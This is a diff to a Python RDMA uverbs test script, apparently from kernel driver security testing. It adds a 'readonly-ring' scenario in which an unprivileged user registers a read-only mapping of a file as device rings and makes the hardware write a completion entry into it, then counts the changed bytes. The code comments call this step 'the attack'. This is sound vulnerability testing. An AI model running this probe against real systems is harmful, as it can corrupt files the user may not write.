@@ -21,6 +21,13 @@ include/uapi/rdma/irdma-abi.h.
         GID of the device (for address vectors). With "leave-open" it instead creates one of
         each object and exits without destroying anything, so that the kernel cleans up on
         file release. Exits 0 unless the scenario itself broke (a setup step failed).
+
+    uverbs_raw.py readonly-ring DEV FILE
+        As root: drops to uid/gid 65534, then registers a PROT_READ, MAP_SHARED mapping of
+        FILE (which that user can only read) as CQ and QP rings and as a memory MR, and where
+        a CQ gets created on it makes the device write a flush CQE there; a control CQ in the
+        process's own memory shows that the flush writes one. Prints "case" lines as above;
+        "file.bytes_changed_in_mapping ... changed=N" counts the bytes that changed.
 """
 import ctypes
 import errno
@@ -28,6 +35,7 @@ import json
 import os
 import struct
 import sys
+import time
 
 # enum ib_uverbs_write_cmds (legacy write commands)
 CMD_GET_CONTEXT = 0
@@ -875,6 +883,139 @@ class Scenario:
         # Exit with everything open (the fds close with the process).
 
 
+# ---- ring registrations over memory the user may not write ---------------------------------
+
+MAP_SHARED = 0x01
+NOBODY = 65534
+
+
+def mmap_file_readonly(path: str, n: int) -> int:
+    """The first n pages of the file at path, mapped PROT_READ, MAP_SHARED (its page cache)."""
+    fd = os.open(path, os.O_RDONLY)
+    try:
+        a = _libc.mmap(None, n * PAGE, PROT_READ, MAP_SHARED, fd, 0)
+    finally:
+        os.close(fd)
+    if a in (None, ctypes.c_void_p(-1).value):
+        raise OSError(ctypes.get_errno(), "mmap")
+    return a
+
+
+def cqe_valid(ring: int, i: int = 0) -> bool:
+    """Whether CQE i of a CQ ring (32-byte entries, VALID = qw3 bit 63) has been written."""
+    return bool(struct.unpack_from("<Q", ctypes.string_at(ring + 32 * i, 32), 24)[0] >> 63)
+
+
+class ReadonlyRing(Scenario):
+    """An unprivileged process registers its read-only MAP_SHARED mapping of a file it cannot
+    write as CQ and QP rings (access 0, and LOCAL_WRITE) and as a memory MR; where a CQ gets
+    created on it, a flushed receive makes the device write a CQE there. The same flush on a
+    ring in the process's own memory (the control) must produce that CQE, so the traffic is
+    real. The caller compares the file before and after."""
+
+    # The file's pages: enough for the QP ring registration (CAPS: 4 SQ + 1 RQ + shadow).
+    FILE_PAGES = 8
+
+    def __init__(self, dev, path):
+        self.dev, self.path = dev, path
+        self.gid_index, self.gid = 0, bytes(16)
+
+    def flush_one_recv(self, name, cq):
+        """A QP on its own (writable) ring with send and receive CQ `cq`: one valid RQ WQE,
+        INIT, then ERR, which makes the device write one flush CQE for it into `cq`."""
+        u = self.u
+        buf, mr = self.qp_ring(f"{name}.reg_mr.qp_ring")
+        sq_depth, _, _, _ = qp_rings(*(self.CAPS[i] for i in (0, 2, 4, 1, 3)))
+        rq = buf + ring_pages(sq_depth) * PAGE
+        # RQ WQE 0: quantum 0's header (qw3) with the valid bit of the first pass.
+        ctypes.memmove(rq + 24, struct.pack("<Q", 1 << 63), 8)
+        h, _, _ = self.need(f"{name}.create_qp",
+                            u.create_qp(self.pd, cq, QPT_RC, list(self.CAPS), qp_req(buf)))
+        self.need(f"{name}.modify_qp.init", (u.modify_qp(
+            h, M_STATE | M_PKEY_INDEX | M_PORT | M_ACCESS_FLAGS, INIT, port_num=1,
+            access=ACC_LOCAL_WRITE), None))
+        self.need(f"{name}.modify_qp.err", (u.modify_qp(h, M_STATE, ERR), None))
+        return h, mr
+
+    def run(self):
+        u = None
+        os.setgroups([])
+        os.setgid(NOBODY)
+        os.setuid(NOBODY)
+        try:
+            os.close(os.open(self.path, os.O_RDWR))
+            e = 0
+        except OSError as err:
+            e = errname(err.errno)
+        self.case("file.open_rdwr_as_nobody", e, uid=os.getuid(), euid=os.geteuid())
+        self.u = u = Uverbs(self.dev)
+        self.setup()
+        ro = mmap_file_readonly(self.path, self.FILE_PAGES)
+        orig = ctypes.string_at(ro, self.FILE_PAGES * PAGE)
+        n = self.FILE_PAGES * PAGE
+        ring_cq = memreg(MEMREG_CQ, cq_pages=1)
+        # The control: a CQ ring in the process's own memory gets the flush CQE.
+        own, own_mr = self.ring_mr(self.pd, "control.reg_mr.cq_ring", 2, ring_cq)
+        cq = self.need("control.create_cq", u.create_cq(8, cq_req(own, own + PAGE)))[0]
+        h, qmr = self.flush_one_recv("control", cq)
+        for _ in range(100):
+            if cqe_valid(own):
+                break
+            time.sleep(0.05)
+        self.case("control.flush_cqe_written", 0, written=int(cqe_valid(own)))
+        self.case("control.destroy_qp", u.destroy_qp(h))
+        self.case("control.dereg_mr.qp_ring", u.dereg_mr(qmr))
+        self.case("control.destroy_cq", u.destroy_cq(cq))
+        self.case("control.dereg_mr.cq_ring", u.dereg_mr(own_mr))
+
+        # Ring registrations over the file: the device would write them.
+        e, mr = u.reg_mr(self.pd, ro, 2 * PAGE, ring_cq, access=0)
+        self.case("reg_mr.cq_ring_readonly_file_access_0", e)
+        e2, mr2 = u.reg_mr(self.pd, ro, 6 * PAGE, memreg(MEMREG_QP, rq_pages=1, sq_pages=4),
+                           access=0)
+        self.case("reg_mr.qp_ring_readonly_file_access_0", e2)
+        if not e2:
+            u.dereg_mr(mr2[0])
+        # Asking for write access pins for writing, which the mapping refuses.
+        e3, mr3 = u.reg_mr(self.pd, ro, 2 * PAGE, ring_cq, access=ACC_LOCAL_WRITE)
+        self.case("reg_mr.cq_ring_readonly_file_local_write", e3)
+        if not e3:
+            u.dereg_mr(mr3[0])
+        # A memory MR without write rights is fine: the device only reads it.
+        e4, mr4 = u.reg_mr(self.pd, ro, n, memreg(MEMREG_MEM), access=ACC_REMOTE_READ)
+        self.case("reg_mr.mem_readonly_file_remote_read", e4)
+        if not e4:
+            self.case("dereg_mr.mem_readonly_file", u.dereg_mr(mr4[0]))
+        # The attack: a CQ on the file's page, and a CQE the device writes there.
+        e5, cqf = u.create_cq(8, cq_req(ro, ro + PAGE))
+        self.case("create_cq.on_readonly_file", e5)
+        if not e5:
+            h, qmr = self.flush_one_recv("attack", cqf[0])
+            for _ in range(100):
+                if cqe_valid(ro):
+                    break
+                time.sleep(0.05)
+            u.destroy_qp(h)
+            u.dereg_mr(qmr)
+            u.destroy_cq(cqf[0])
+        if not e:
+            self.case("dereg_mr.cq_ring_readonly_file", u.dereg_mr(mr[0]))
+        now = ctypes.string_at(ro, n)
+        changed = sum(1 for a, b in zip(orig, now) if a != b)
+        self.case("file.bytes_changed_in_mapping", 0, changed=changed)
+        self.case("dealloc_pd", u.dealloc_pd(self.pd))
+        u.close()
+
+
+def readonly_ring(dev, path) -> int:
+    try:
+        ReadonlyRing(dev, path).run()
+    except Broken as e:
+        print(f"scenario broken: {e}", flush=True)
+        return 1
+    return 0
+
+
 def scenario(dev, gid_index, gid_hex, leave_open=False) -> int:
     s = Scenario(dev, gid_index, bytes.fromhex(gid_hex))
     try:
@@ -893,6 +1034,8 @@ def main() -> int:
     if len(a) == 4 and a[0] == "get-context":
         print(json.dumps(get_context(a[1], bytes.fromhex(a[2]), int(a[3]))))
         return 0
+    if len(a) == 3 and a[0] == "readonly-ring":
+        return readonly_ring(a[1], a[2])
     if len(a) in (4, 5) and a[0] == "scenario" and (len(a) == 4 or a[4] == "leave-open"):
         return scenario(a[1], int(a[2]), a[3], len(a) == 5)
     print(__doc__, file=sys.stderr)
